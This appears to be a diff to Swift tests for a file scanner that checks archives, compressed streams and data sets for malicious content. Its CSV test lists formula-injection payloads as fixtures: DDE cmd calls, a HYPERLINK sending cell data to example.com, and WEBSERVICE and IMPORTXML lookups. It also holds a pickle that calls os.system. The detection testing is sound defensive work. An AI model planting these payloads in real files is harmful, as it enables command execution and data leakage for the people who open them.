@@ -1,6 +1,7 @@
 // Compressed files, archives and data sets with broken bytes: nothing crashes, nothing cut is safe.
 
 import Bytes
+import Formats
 import Inspection
 import Testing
 
@@ -39,6 +40,8 @@ struct ContainerBytesTests {
     arguments: [
       "7z/good.7z", "7z/program-plain-header.7z", "7z/evil-x86-lzma.7z", "tar/good-pax.tar",
       "tar/evil-sparse-pax10.tar", "tar/tree.tar", "zip/good-lzma.zip", "tar/evil.cpio",
+      "datasets/good-delta.parquet", "datasets/good-plain-v2.parquet", "datasets/good-lz4.parquet",
+      "datasets/good.jsonl", "oci/good.tar", "oci/docker.tar",
     ])
   func mutated(_ name: String) throws {
     let original = try Fixtures.bytes("containers/\(name)")
@@ -56,18 +59,86 @@ struct ContainerBytesTests {
   }
 
   @Test(
-    "every single bit that is flipped crashes nothing, and keeps what ran malicious or unknown",
+    "every byte with a bit that is flipped crashes nothing, and keeps what ran malicious or unknown",
     arguments: [
       "evil.pkl.gz", "evil.pkl.zlib", "evil.pkl.bz2", "evil.pkl.xz", "evil.pkl.zst", "evil.pkl.lz4",
     ])
   func flipped(_ name: String) throws {
     let original = try Fixtures.bytes("containers/streams/\(name)")
     for place in original.indices {
-      for bit in 0..<8 {
+      for bit in [0, 3, 7] {
         var bytes = original
         bytes[place] ^= 1 << UInt8(bit)
         #expect(Fixtures.report(bytes).verdict != .safe, "bit \(bit) of byte \(place)")
       }
     }
+  }
+
+  @Test("the list of members of a 7z archive is broken in every way, its sums put right")
+  func sevenZipHeader() throws {
+    let original = try Fixtures.bytes("containers/7z/program-plain-header.7z")
+    func number(_ range: Range<Int>) -> Int {
+      original[range].reversed().reduce(0) { $0 << 8 | Int($1) }
+    }
+    func put(_ value: UInt32, _ at: Int, _ bytes: inout [UInt8]) {
+      for index in 0..<4 { bytes[at + index] = UInt8(truncatingIfNeeded: value >> (8 * index)) }
+    }
+    let start = 32 + number(12..<20)
+    let end = start + number(20..<28)
+    for place in start..<end {
+      for value in [0, 1, 6, 0x7F, 0x80, 0xFF, original[place] ^ 1, original[place] &+ 1] {
+        var bytes = original
+        bytes[place] = value
+        put(Checksum.crc32(Array(bytes[start..<end])), 28, &bytes)
+        put(Checksum.crc32(Array(bytes[12..<32])), 8, &bytes)
+        #expect(Fixtures.report(bytes).verdict != .safe, "\(value) at \(place - start)")
+      }
+    }
+  }
+
+  @Test("tables are told by their names, and their cells are read")
+  func tables() {
+    let rows = (0..<50).map { "\($0),some \"\"text,\"quoted, with\nlines\"" }
+    let good = "a,b,c\n" + rows.joined(separator: "\n") + "\n"
+    #expect(Fixtures.report(Array(good.utf8), name: "x.csv").verdict == .safe)
+    #expect(Fixtures.report(Array(good.utf8), name: "x.csv").format == "csv")
+    #expect(Fixtures.report(Array("a\tb\n1\t2\n".utf8), name: "d/X.TSV").verdict == .safe)
+    for cell in [
+      "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "=HYPERLINK(\"http://example.com/?\"&A1)", "\"=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"x\"\")\"",
+      "\t=cmd|'/C calc'!A0", "=IMPORTXML(CONCAT(A1),\"//a\")", "=WEBSERVICE(A1)",
+    ] {
+      let report = Fixtures.report(Array((good + "1,\(cell),2\n").utf8), name: "x.csv")
+      #expect(report.verdict == .suspicious, "\(cell)")
+    }
+    for cell in ["-1", "+49 30 1234", "@user", "=)", "-a | b", "--- | --- !", "=A1+B2", "- item"] {
+      let report = Fixtures.report(Array((good + "1,\(cell),2\n").utf8), name: "x.csv")
+      #expect(report.verdict == .safe, "\(cell)")
+    }
+    let pickle = Array("cos\nsystem\n(S'true'\ntR.".utf8)
+    #expect(Fixtures.report(pickle, name: "x.csv").verdict == .malicious)
+    #expect(Fixtures.report(Array(pickle.dropLast()), name: "x.csv").verdict == .malicious)
+    #expect(Fixtures.report(Array("a,b\n1,\u{0}\n".utf8), name: "x.csv").verdict == .unknown)
+    #expect(Fixtures.report(Array("a,b\n1,\"x\n".utf8), name: "x.csv").verdict == .unknown)
+  }
+
+  @Test("content that is too large to be held is unpacked again, and read to its end")
+  func large() throws {
+    // Two members in a stream: the second lies behind more than is held.
+    let bytes = try Fixtures.bytes("containers/tar/evil.tar.xz")
+    let unpacked = Unpacked(
+      Region(MemorySource(bytes)), .xz, joins: true, keep: 100, limit: 1 << 30, work: 1 << 30)
+    let whole = Unpacked(
+      Region(MemorySource(bytes)), .xz, joins: true, keep: 1 << 20, limit: 1 << 30, work: 0)
+    #expect(unpacked.content.isStreamed && !whole.content.isStreamed)
+    #expect(unpacked.count == whole.count && unpacked.crc == whole.crc)
+    for (offset, length) in [(0, 700), (900, 20), (0, 5), (300, 1000), (1, 1)] {
+      let expected = try whole.content.bytes(UInt64(offset), length)
+      #expect(try unpacked.content.bytes(UInt64(offset), length) == expected)
+    }
+    let poor = Unpacked(
+      Region(MemorySource(bytes)), .xz, joins: true, keep: 100, limit: 1 << 30, work: 10)
+    #expect(throws: FormatError.self) { try poor.content.bytes(0, 5) }
   }
 }
